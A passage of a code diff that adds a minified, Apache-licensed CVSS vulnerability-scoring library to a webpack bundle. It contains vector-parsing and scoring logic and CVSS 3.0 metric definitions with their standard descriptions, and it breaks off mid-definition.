@@ -1,7 +1,242 @@
 import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /******/ var __webpack_modules__ = ({
 
-/***/ 5067:
+/***/ 4353:
+/***/ (function(module) {
+
+/*
+ * Copyright 2024 the original author or authors.
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
+!function(e,t){ true?module.exports=t():0}(this,(()=>(()=>{"use strict";var e={154:(e,t)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.CvssVector=void 0;class o{constructor(e,t,o){this.vector=e,this.normalize=t,this.scores=o}isUpToDate(e,t){return this.vector===e&&this.normalize===t}getScores(){return this.scores}}t.CvssVector=class{constructor(e){this.vectorChangedListeners=[],this.components=new Map,this.clearComponents(),e&&this.applyVector(e)}calculateScores(e=!1){const t=this.toString(!0);if(this.cachedScores&&this.cachedScores.isUpToDate(t,e))return this.cachedScores.getScores();const a=this.calculateScoresInternal(e);return this.cachedScores=new o(t,e,a),a}fillBaseMetrics(){for(const[e,t]of this.getRegisteredComponents())if("base"===e.name){for(const e of t){const t=e.values[1];t&&this.applyComponent(e,t)}return}throw new Error("No base category found")}getComponents(){return this.components}clearComponents(){this.getRegisteredComponents().forEach(((e,t)=>{e.forEach((e=>this.components.set(e,e.values[0])))}))}clearSpecifiedComponents(e){e.forEach((e=>this.components.set(e,e.values[0])))}addVectorChangedListener(e){this.vectorChangedListeners.push(e)}normalizeVector(e){return e.replace(/\(/g,"").replace(/\)/g,"").replace(/CVSS:\d+\.?\d?/g,"").replace(/\s/g,"").replace(/\\/g,"").replace(/^\//g,"").replace(/\/$/g,"").trim()}findComponent(e){for(const t of this.getRegisteredComponents().values()){const o=t.find((t=>t.name===e||t.shortName===e));if(o)return o}return Array.from(this.components.keys()).find((t=>t.name===e||t.shortName===e))}applyVector(e){this.applyVectorCount(e)}applyVectorCount(e){const t=this.normalizeVector(e).split("/");let o=0;return t.forEach((e=>{if(0===e.length)return;const[t,a]=e.split(":");0!==t.length&&0!==a.length?this.applyComponentString(t,a,!1)&&o++:console.warn("Invalid component/value pair",e)})),this.vectorChangedListeners.forEach((e=>e(this))),o}applyComponentString(e,t,o=!0){const a=this.findComponent(e);if(a){const i=a.values.find((e=>e.name===t||e.shortName===t));if(i)return this.components.get(a)!==i&&(this.applyComponent(a,i),o&&this.vectorChangedListeners.forEach((e=>e(this))),!0);throw new Error(`Unknown component value ${t} for component ${e}`)}throw new Error(`Unknown component ${e} when setting value ${t}`)}applyComponentStringSilent(e,t,o=!0){try{return this.applyComponentString(e,t,o)}catch(e){return!1}}applyComponent(e,t,o=!0){this.components.set(e,t),o&&this.vectorChangedListeners.forEach((e=>e(this)))}applyVectorPartsIf(e,t,o){if(!e)return 0;const a=this.normalizeVector(e);if(0===a.length)return 0;const i=a.split("/");let s=0;for(const e of i){if(!e)continue;const a=e.split(":",2),i=this.clone(),n=t(i);if(2===a.length){i.applyComponentStringSilent(a[0],a[1]);const e=t(i);o?e<=n&&(s+=this.applyComponentStringSilent(a[0],a[1])?1:0):e>=n&&(s+=this.applyComponentStringSilent(a[0],a[1])?1:0)}else console.warn("Unknown vector argument:",e)}return s}applyVectorPartsIfLower(e,t){return this.applyVectorPartsIf(e,t,!0)}applyVectorPartsIfHigher(e,t){return this.applyVectorPartsIf(e,t,!1)}applyVectorPartsIfLowerVector(e,t){return this.applyVectorPartsIf(e.toStringDefinedParts(),t,!0)}applyVectorPartsIfHigherVector(e,t){return this.applyVectorPartsIf(e.toStringDefinedParts(),t,!1)}getComponent(e){const t=this.components.get(e);if(!t)throw new Error(`Unknown component: ${e.name}`);return t}getComponentByString(e){const t=this.findComponent(e);if(!t)throw new Error(`Unknown component: ${e}`);const o=this.components.get(t);if(!o)throw new Error(`Unknown component: ${e}`);return o}getComponentByStringOpt(e){try{return this.getComponentByString(e)}catch(e){return null}}size(){return Array.from(this.components.values()).filter(this.isComponentValueDefined).length}getFirstDefinedComponent(e){return e.map((e=>this.components.get(e))).find(this.isComponentValueDefined)}toString(e=!1,t=this.getRegisteredComponents(),o=!1){let a="";for(const[i,s]of t)if(e||this.isCategoryPartiallyDefined(i))for(const e of s){const t=this.components.get(e);if(t){if(o&&!this.isComponentValueDefined(t))continue;a+=`${e.shortName}:${t.shortName}/`}}return this.getVectorPrefix()+a.slice(0,-1)}toStringDefinedParts(){return this.toString(!1,this.getRegisteredComponents(),!0)}isCategoryFullyDefined(e){const t=this.getRegisteredComponents().get(e);return!!t&&t.every((e=>void 0!==this.components.get(e)&&"ND"!==this.components.get(e).shortName&&"X"!==this.components.get(e).shortName))}isCategoryPartiallyDefined(e){const t=this.getRegisteredComponents().get(e);return!!t&&t.some((e=>void 0!==this.components.get(e)&&"ND"!==this.components.get(e).shortName&&"X"!==this.components.get(e).shortName))}round(e,t){let o=Math.pow(10,t);return Math.round(e*o)/o}roundUp(e){let t=Math.round(1e5*e);return t%1e4==0?t/1e5:(Math.floor(t/1e4)+1)/10}normalizeScore(e,t){return 10===t?e:this.round(this.mapRange(e,0,t,0,10),1)}mapRange(e,t,o,a,i){return(e-t)/(o-t)*(i-a)+a}pickRandomDefinedComponentValue(e){for(let t=0;t<999999;t++){const t=e.values[Math.floor(Math.random()*e.values.length)];if("X"!==t.shortName&&"ND"!==t.shortName&&!t.hide)return t}}clone(){const e=new this.constructor;return e.components=new Map(this.components),e}diffVector(e){const t=new this.constructor;for(const[o,a]of this.getRegisteredComponents())for(const o of a){const a=this.components.get(o),i=e.components.get(o),s=this.isComponentValueDefined(a),n=this.isComponentValueDefined(i);s&&n&&a.shortName!==i.shortName||!s&&n?t.applyComponent(o,i):s&&!n&&t.applyComponent(o,a)}return t}applyEnvironmentalMetricsOntoBase(){for(const[e,t]of this.getRegisteredComponents())for(const e of t){const t=this.components.get(e);t&&e.baseMetricEquivalent&&this.isComponentValueDefined(t)&&(e.baseMetricEquivalentMapper?this.applyComponentString(e.baseMetricEquivalent.shortName,e.baseMetricEquivalentMapper(t).shortName,!1):this.applyComponentString(e.baseMetricEquivalent.shortName,t.shortName,!1),this.applyComponent(e,e.values[0],!1))}this.vectorChangedListeners.forEach((e=>e(this)))}isComponentValueDefined(e){return void 0!==e&&"ND"!==e.shortName&&"X"!==e.shortName}static _reorderAttributeSeverityOrder(e){const t=[];return e.forEach(((e,o)=>{t.push([e])})),t}}},156:function(e,t,o){var a=this&&this.__createBinding||(Object.create?function(e,t,o,a){void 0===a&&(a=o);var i=Object.getOwnPropertyDescriptor(t,o);i&&!("get"in i?!t.__esModule:i.writable||i.configurable)||(i={enumerable:!0,get:function(){return t[o]}}),Object.defineProperty(e,a,i)}:function(e,t,o,a){void 0===a&&(a=o),e[a]=t[o]}),i=this&&this.__exportStar||function(e,t){for(var o in e)"default"===o||Object.prototype.hasOwnProperty.call(t,o)||a(t,e,o)};Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss4P0=t.Cvss3P0=t.Cvss3P1=t.Cvss2=t.CvssVector=void 0;var s=o(154);Object.defineProperty(t,"CvssVector",{enumerable:!0,get:function(){return s.CvssVector}}),i(o(564),t);var n=o(475);Object.defineProperty(t,"Cvss2",{enumerable:!0,get:function(){return n.Cvss2}});var r=o(371);Object.defineProperty(t,"Cvss3P1",{enumerable:!0,get:function(){return r.Cvss3P1}});var c=o(623);Object.defineProperty(t,"Cvss3P0",{enumerable:!0,get:function(){return c.Cvss3P0}});var l=o(987);Object.defineProperty(t,"Cvss4P0",{enumerable:!0,get:function(){return l.Cvss4P0}})},331:(e,t)=>{var o;Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss3P0Components=void 0;class a{}t.Cvss3P0Components=a,o=a,a.CONFIDENTIALITY_IMPACT_VALUES={X:{shortName:"X",value:0,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no loss of confidentiality within the impacted component."},L:{shortName:"L",value:.22,name:"Low",jsonSchemaName:"LOW",description:"There is some loss of confidentiality. Access to some restricted information is obtained, but the attacker does not have control over what information is obtained, or the amount or kind of loss is limited. The information disclosure does not cause a direct, serious loss to the impacted component."},H:{shortName:"H",value:.56,name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of confidentiality, resulting in all resources within the impacted component being divulged to the attacker. Alternatively, access to only some restricted information is obtained, but the disclosed information presents a direct, serious impact. For example, an attacker steals the administrator's password, or private encryption keys of a web server."}},a.CONFIDENTIALITY_IMPACT=[o.CONFIDENTIALITY_IMPACT_VALUES.X,o.CONFIDENTIALITY_IMPACT_VALUES.N,o.CONFIDENTIALITY_IMPACT_VALUES.L,o.CONFIDENTIALITY_IMPACT_VALUES.H],a.INTEGRITY_IMPACT_VALUES={X:{shortName:"X",value:0,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no loss of integrity within the impacted component."},L:{shortName:"L",value:.22,name:"Low",jsonSchemaName:"LOW",description:"Modification of data is possible, but the attacker does not have control over the consequence of a modification, or the amount of modification is limited. The data modification does not have a direct, serious impact on the impacted component."},H:{shortName:"H",value:.56,name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of integrity, or a complete loss of protection. For example, the attacker is able to modify any/all files protected by the impacted component. Alternatively, only some files can be modified, but malicious modification would present a direct, serious consequence to the impacted component."}},a.INTEGRITY_IMPACT=[o.INTEGRITY_IMPACT_VALUES.X,o.INTEGRITY_IMPACT_VALUES.N,o.INTEGRITY_IMPACT_VALUES.L,o.INTEGRITY_IMPACT_VALUES.H],a.AVAILABILITY_IMPACT_VALUES={X:{shortName:"X",value:0,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:0,name:"None",jsonSchemaName:"NONE",description:"There is no impact to availability within the impacted component."},L:{shortName:"L",value:.22,name:"Low",jsonSchemaName:"LOW",description:"Performance is reduced or there are interruptions in resource availability. Even if repeated exploitation of the vulnerability is possible, the attacker does not have the ability to completely deny service to legitimate users. The resources in the impacted component are either partially available all of the time, or fully available only some of the time, but overall there is no direct, serious consequence to the impacted component."},H:{shortName:"H",value:.56,name:"High",jsonSchemaName:"HIGH",description:"There is a total loss of availability, resulting in the attacker being able to fully deny access to resources in the impacted component; this loss is either sustained (while the attacker continues to deliver the attack) or persistent (the condition persists even after the attack has completed). Alternatively, the attacker has the ability to deny some availability, but the loss of availability presents a direct, serious consequence to the impacted component (e.g., the attacker cannot disrupt existing connections, but can prevent new connections; the attacker can repeatedly exploit a vulnerability that, in each instance of a successful attack, leaks a only small amount of memory, but after repeated exploitation causes a service to become completely unavailable)."}},a.AVAILABILITY_IMPACT=[o.AVAILABILITY_IMPACT_VALUES.X,o.AVAILABILITY_IMPACT_VALUES.N,o.AVAILABILITY_IMPACT_VALUES.L,o.AVAILABILITY_IMPACT_VALUES.H],a.CONFIDENTIALITY_REQUIREMENT_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value indicates there is insufficient information to choose one of the other values, and has no impact on the overall Environmental Score, i.e., it has the same effect on scoring as assigning Medium."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of Confidentiality is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Confidentiality is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.5,name:"High",jsonSchemaName:"HIGH",description:"Loss of Confidentiality is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},a.CONFIDENTIALITY_REQUIREMENT=[o.CONFIDENTIALITY_REQUIREMENT_VALUES.X,o.CONFIDENTIALITY_REQUIREMENT_VALUES.L,o.CONFIDENTIALITY_REQUIREMENT_VALUES.M,o.CONFIDENTIALITY_REQUIREMENT_VALUES.H],a.INTEGRITY_REQUIREMENT_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value indicates there is insufficient information to choose one of the other values, and has no impact on the overall Environmental Score, i.e., it has the same effect on scoring as assigning Medium."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of Integrity is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Integrity is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.5,name:"High",jsonSchemaName:"HIGH",description:"Loss of Integrity is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},a.INTEGRITY_REQUIREMENT=[o.INTEGRITY_REQUIREMENT_VALUES.X,o.INTEGRITY_REQUIREMENT_VALUES.L,o.INTEGRITY_REQUIREMENT_VALUES.M,o.INTEGRITY_REQUIREMENT_VALUES.H],a.AVAILABILITY_REQUIREMENT_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Assigning this value indicates there is insufficient information to choose one of the other values, and has no impact on the overall Environmental Score, i.e., it has the same effect on scoring as assigning Medium."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"Loss of Availability is likely to have only a limited adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"Loss of Availability is likely to have a serious adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."},H:{shortName:"H",value:1.5,name:"High",jsonSchemaName:"HIGH",description:"Loss of Availability is likely to have a catastrophic adverse effect on the organization or individuals associated with the organization (e.g., employees, customers)."}},a.AVAILABILITY_REQUIREMENT=[o.AVAILABILITY_REQUIREMENT_VALUES.X,o.AVAILABILITY_REQUIREMENT_VALUES.L,o.AVAILABILITY_REQUIREMENT_VALUES.M,o.AVAILABILITY_REQUIREMENT_VALUES.H],a.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},L:{shortName:"L",value:.5,name:"Low",jsonSchemaName:"LOW",description:"There is no impact to the integrity of the system."},M:{shortName:"M",value:1,name:"Medium",jsonSchemaName:"MEDIUM",description:"There is a partial compromise of system integrity."},H:{shortName:"H",value:1.5,name:"High",jsonSchemaName:"HIGH",description:"There is a total compromise of system integrity."}},a.TEMPLATE_CIA_REQUIREMENT_MODIFIED=[o.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES.X,o.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES.L,o.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES.M,o.TEMPLATE_CIA_REQUIREMENT_MODIFIED_VALUES.H],a.BASE_CATEGORY={name:"base",description:"This metric reflects the qualities of a vulnerability that are constant over time and across user environments."},a.AV_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,name:"Network",abbreviatedName:"Netw.",jsonSchemaName:"NETWORK",description:"The vulnerable component is bound to the network stack and the set of possible attackers extends beyond the other options listed below, up to and including the entire Internet."},A:{shortName:"A",value:.62,name:"Adjacent Network",abbreviatedName:"Adj. Network",jsonSchemaName:"ADJACENT_NETWORK",description:"The vulnerable component is bound to the network stack, but the attack is limited at the protocol level to a logically adjacent topology."},L:{shortName:"L",value:.55,name:"Local",jsonSchemaName:"LOCAL",description:"The vulnerable component is not bound to the network stack and the attacker's path is via read/write/execute capabilities."},P:{shortName:"P",value:.2,name:"Physical",abbreviatedName:"Phys.",jsonSchemaName:"PHYSICAL",description:"The attack requires the attacker to physically touch or manipulate the vulnerable component."}},a.AV={name:"Attack Vector",shortName:"AV",subCategory:"Exploitability Metrics",description:"This metric reflects the context by which vulnerability exploitation is possible. The more remote an attacker can be to attack a host, the greater the vulnerability score.",values:[o.AV_VALUES.X,o.AV_VALUES.N,o.AV_VALUES.A,o.AV_VALUES.L,o.AV_VALUES.P]},a.AC_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},L:{shortName:"L",value:.77,name:"Low",jsonSchemaName:"LOW",description:"Specialized access conditions or extenuating circumstances do not exist. An attacker can expect repeatable success when attacking the vulnerable component."},H:{shortName:"H",value:.44,name:"High",jsonSchemaName:"HIGH",description:"A successful attack depends on conditions beyond the attacker's control. That is, a successful attack cannot be accomplished at will, but requires the attacker to invest in some measurable amount of effort in preparation or execution against the vulnerable component before a successful attack can be expected."}},a.AC={name:"Attack Complexity",shortName:"AC",subCategory:"Exploitability Metrics",description:"This metric describes the conditions beyond the attacker's control that must exist in order to exploit the vulnerability.",values:[o.AC_VALUES.X,o.AC_VALUES.L,o.AC_VALUES.H]},a.PR_VALUES={X:{shortName:"X",value:1,changedValue:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,changedValue:.85,name:"None",jsonSchemaName:"NONE",description:"The attacker is unauthorized prior to attack, and therefore does not require any access to settings or files of the vulnerable system to carry out an attack."},L:{shortName:"L",value:.62,changedValue:.68,name:"Low",jsonSchemaName:"LOW",description:"The attacker requires privileges that provide basic user capabilities that could normally affect only settings and files owned by a user. Alternatively, an attacker with Low privileges has the ability to access only non-sensitive resources."},H:{shortName:"H",value:.27,changedValue:.5,name:"High",jsonSchemaName:"HIGH",description:"The attacker requires privileges that provide significant (e.g., administrative) control over the vulnerable component allowing access to component-wide settings and files."}},a.PR={name:"Privileges Required",shortName:"PR",subCategory:"Exploitability Metrics",description:"This metric describes the level of privileges an attacker must possess before successfully exploiting the vulnerability.",values:[o.PR_VALUES.X,o.PR_VALUES.N,o.PR_VALUES.L,o.PR_VALUES.H]},a.UI_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,name:"None",jsonSchemaName:"NONE",description:"The vulnerable system can be exploited without interaction from any user."},R:{shortName:"R",value:.62,name:"Required",abbreviatedName:"Req.",jsonSchemaName:"REQUIRED",description:"Successful exploitation of this vulnerability requires a user to take some action before the vulnerability can be exploited. For example, a successful exploit may only be possible during the installation of an application by a system administrator."}},a.UI={name:"User Interaction",shortName:"UI",subCategory:"Exploitability Metrics",description:"This metric captures the requirement for a user, other than the attacker, to participate in the successful compromise of the vulnerable component.",values:[o.UI_VALUES.X,o.UI_VALUES.N,o.UI_VALUES.R]},a.S_VALUES={X:{shortName:"X",value:!1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},U:{shortName:"U",value:!1,name:"Unchanged",abbreviatedName:"Unchang.",jsonSchemaName:"UNCHANGED",description:"An exploited vulnerability can only affect resources managed by the same authority."},C:{shortName:"C",value:!0,name:"Changed",jsonSchemaName:"CHANGED",description:"An exploited vulnerability can affect resources beyond the authorization privileges intended by the vulnerable system's design."}},a.S={name:"Scope",shortName:"S",subCategory:"Exploitability Metrics",description:"Can an exploit of the vulnerability be accomplished remotely?",values:[o.S_VALUES.X,o.S_VALUES.U,o.S_VALUES.C]},a.C={name:"Confidentiality Impact",shortName:"C",subCategory:"Impact Metrics",description:"This metric measures the impact to the confidentiality of the information resources managed by a software component due to a successfully exploited vulnerability.",values:o.CONFIDENTIALITY_IMPACT},a.I={name:"Integrity Impact",shortName:"I",subCategory:"Impact Metrics",description:"This metric measures the impact to integrity of a successfully exploited vulnerability.",values:o.INTEGRITY_IMPACT},a.A={name:"Availability Impact",shortName:"A",subCategory:"Impact Metrics",description:"This metric measures the impact to the availability of the impacted component resulting from a successfully exploited vulnerability.",values:o.AVAILABILITY_IMPACT},a.BASE_CATEGORY_VALUES=[o.AV,o.AC,o.PR,o.UI,o.S,o.C,o.I,o.A],a.TEMPORAL_CATEGORY={name:"temporal",description:"This metric reflects the current state of exploit techniques or code availability."},a.E_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},U:{shortName:"U",value:.91,name:"Unproven",abbreviatedName:"Unproven",description:"No exploit code is available, or an exploit is theoretical."},P:{shortName:"P",value:.94,name:"Proof-of-Concept",abbreviatedName:"Proof-of-conc.",jsonSchemaName:"PROOF_OF_CONCEPT",description:"Proof-of-concept exploit code is available, or an attack demonstration is not practical for most systems. The code or technique is not functional in all situations and may require substantial modification by a skilled attacker."},F:{shortName:"F",value:.97,name:"Functional",jsonSchemaName:"FUNCTIONAL",description:"Functional exploit code is available. The code works in most situations where the vulnerability exists."},H:{shortName:"H",value:1,name:"High",jsonSchemaName:"HIGH",description:"Functional exploit code is available. The code is widespread and automated and works in all situations where the vulnerability exists."}},a.E={name:"Exploit Code Maturity",shortName:"E",description:"This metric measures the likelihood of the vulnerability being attacked, and is typically based on the current state of exploit techniques, exploit code availability, or active, successful exploitation of the vulnerability.",values:[o.E_VALUES.X,o.E_VALUES.U,o.E_VALUES.P,o.E_VALUES.F,o.E_VALUES.H]},a.RL_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},O:{shortName:"O",value:.95,name:"Official Fix",abbreviatedName:"Off. Fix",jsonSchemaName:"OFFICIAL_FIX",description:"A complete vendor solution is available. Either the vendor has issued an official patch, or an upgrade is available."},T:{shortName:"T",value:.96,name:"Temporary Fix",abbreviatedName:"Temp. Fix",jsonSchemaName:"TEMPORARY_FIX",description:"There is an official but temporary fix available. This includes instances where the vendor issues a temporary hotfix, tool, or workaround."},W:{shortName:"W",value:.97,name:"Workaround",jsonSchemaName:"WORKAROUND",description:"There is an unofficial, non-vendor solution available. In some cases, users of the affected technology will create a patch of their own or provide steps to work around or otherwise mitigate the vulnerability."},U:{shortName:"U",value:1,name:"Unavailable",jsonSchemaName:"UNAVAILABLE",description:"There is either no solution available or it is impossible to apply."}},a.RL={name:"Remediation Level",shortName:"RL",description:"This metric describes the remediation level for a vulnerability in an affected resource.",values:[o.RL_VALUES.X,o.RL_VALUES.O,o.RL_VALUES.T,o.RL_VALUES.W,o.RL_VALUES.U]},a.RC_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},U:{shortName:"U",value:.92,name:"Unknown",description:"Report confidence is unknown."},R:{shortName:"R",value:.96,name:"Reasonable",jsonSchemaName:"REASONABLE",description:"Reasonable confidence exists, or the reported vulnerability is in a component not typically used by a target or not having a large installed base."},C:{shortName:"C",value:1,name:"Confirmed",jsonSchemaName:"CONFIRMED",description:"Confirmed confidence exists, or the exploit is functional in the environment where the vulnerability exists."}},a.RC={name:"Report Confidence",shortName:"RC",description:"This metric describes the level of confidence in the existence of the vulnerability and the credibility of the known technical details.",values:[o.RC_VALUES.X,o.RC_VALUES.U,o.RC_VALUES.R,o.RC_VALUES.C]},a.TEMPORAL_CATEGORY_VALUES=[o.E,o.RL,o.RC],a.ENVIRONMENTAL_CATEGORY={name:"environmental",description:"This metric reflects the characteristics of a vulnerability that are relevant and unique to a particular user's environment. This metric can greatly improve the accuracy of a score."},a.MAV_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,name:"Network",abbreviatedName:"Netw.",jsonSchemaName:"NETWORK",description:"The vulnerable component is bound to the network stack and the set of possible attackers extends beyond the other options listed below, up to and including the entire Internet."},A:{shortName:"A",value:.62,name:"Adjacent Network",abbreviatedName:"Adj. Network",jsonSchemaName:"ADJACENT_NETWORK",description:"The vulnerable component is bound to the network stack, but the attack is limited at the protocol level to a logically adjacent topology."},L:{shortName:"L",value:.55,name:"Local",jsonSchemaName:"LOCAL",description:"The vulnerable component is not bound to the network stack and the attacker's path is via read/write/execute capabilities."},P:{shortName:"P",value:.2,name:"Physical",abbreviatedName:"Phys.",jsonSchemaName:"PHYSICAL",description:"The attack requires the attacker to physically touch or manipulate the vulnerable component."}},a.MAV={name:"Modified Attack Vector",shortName:"MAV",subCategory:"Exploitability Metrics",description:"This metric reflects the context by which vulnerability exploitation is possible. The more remote an attacker can be to attack a host, the greater the vulnerability score.",baseMetricEquivalent:o.AV,values:[o.MAV_VALUES.X,o.MAV_VALUES.N,o.MAV_VALUES.A,o.MAV_VALUES.L,o.MAV_VALUES.P]},a.MAC_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},L:{shortName:"L",value:.77,name:"Low",jsonSchemaName:"LOW",description:"Specialized access conditions or extenuating circumstances do not exist. An attacker can expect repeatable success when attacking the vulnerable component."},H:{shortName:"H",value:.44,name:"High",jsonSchemaName:"HIGH",description:"A successful attack depends on conditions beyond the attacker's control. That is, a successful attack cannot be accomplished at will, but requires the attacker to invest in some measurable amount of effort in preparation or execution against the vulnerable component before a successful attack can be expected."}},a.MAC={name:"Modified Attack Complexity",shortName:"MAC",subCategory:"Exploitability Metrics",description:"This metric describes the conditions beyond the attacker's control that must exist in order to exploit the vulnerability.",baseMetricEquivalent:o.AC,values:[o.MAC_VALUES.X,o.MAC_VALUES.L,o.MAC_VALUES.H]},a.MPR_VALUES={X:{shortName:"X",value:1,changedValue:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,changedValue:.85,name:"None",jsonSchemaName:"NONE",description:"The attacker is unauthorized prior to attack, and therefore does not require any access to settings or files of the vulnerable system to carry out an attack."},L:{shortName:"L",value:.62,changedValue:.68,name:"Low",jsonSchemaName:"LOW",description:"The attacker requires privileges that provide basic user capabilities that could normally affect only settings and files owned by a user. Alternatively, an attacker with Low privileges has the ability to access only non-sensitive resources."},H:{shortName:"H",value:.27,changedValue:.5,name:"High",jsonSchemaName:"HIGH",description:"The attacker requires privileges that provide significant (e.g., administrative) control over the vulnerable component allowing access to component-wide settings and files."}},a.MPR={name:"Modified Privileges Required",shortName:"MPR",subCategory:"Exploitability Metrics",description:"This metric describes the level of privileges an attacker must possess before successfully exploiting the vulnerability.",baseMetricEquivalent:o.PR,values:[o.MPR_VALUES.X,o.MPR_VALUES.N,o.MPR_VALUES.L,o.MPR_VALUES.H]},a.MUI_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,name:"None",jsonSchemaName:"NONE",description:"The vulnerable system can be exploited without interaction from any user."},R:{shortName:"R",value:.62,name:"Required",jsonSchemaName:"REQUIRED",description:"Successful exploitation of this vulnerability requires a user to take some action before the vulnerability can be exploited. For example, a successful exploit may only be possible during the installation of an application by a system administrator."}},a.MUI={name:"Modified User Interaction",shortName:"MUI",subCategory:"Exploitability Metrics",description:"This metric captures the requirement for a user, other than the attacker, to participate in the successful compromise of the vulnerable component.",baseMetricEquivalent:o.UI,values:[o.MUI_VALUES.X,o.MUI_VALUES.N,o.MUI_VALUES.R]},a.MS_VALUES={X:{shortName:"X",value:!1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},U:{shortName:"U",value:!1,name:"Unchanged",abbreviatedName:"Unchang.",jsonSchemaName:"UNCHANGED",description:"An exploited vulnerability can only affect resources managed by the same authority."},C:{shortName:"C",value:!0,name:"Changed",jsonSchemaName:"CHANGED",description:"An exploited vulnerability can affect resources beyond the authorization privileges intended by the vulnerable system's design."}},a.MS={name:"Modified Scope",shortName:"MS",subCategory:"Exploitability Metrics",description:"Can an exploit of the vulnerability be accomplished remotely?",baseMetricEquivalent:o.S,values:[o.MS_VALUES.X,o.MS_VALUES.U,o.MS_VALUES.C]},a.MC={name:"Confidentiality Impact",shortName:"MC",subCategory:"Modified Impact",description:"This metric measures the impact to the confidentiality of the information resources managed by a software component due to a successfully exploited vulnerability.",baseMetricEquivalent:o.C,values:o.CONFIDENTIALITY_IMPACT},a.MI={name:"Integrity Impact",shortName:"MI",subCategory:"Modified Impact",description:"This metric measures the impact to integrity of a successfully exploited vulnerability.",baseMetricEquivalent:o.I,values:o.INTEGRITY_IMPACT},a.MA={name:"Availability Impact",shortName:"MA",subCategory:"Modified Impact",description:"This metric measures the impact to the availability of the impacted component resulting from a successfully exploited vulnerability.",baseMetricEquivalent:o.A,values:o.AVAILABILITY_IMPACT},a.CR={name:"Confidentiality Requirement",shortName:"CR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:"This metric describes the remediation level for a vulnerability in an affected resource.",values:o.CONFIDENTIALITY_REQUIREMENT},a.IR={name:"Integrity 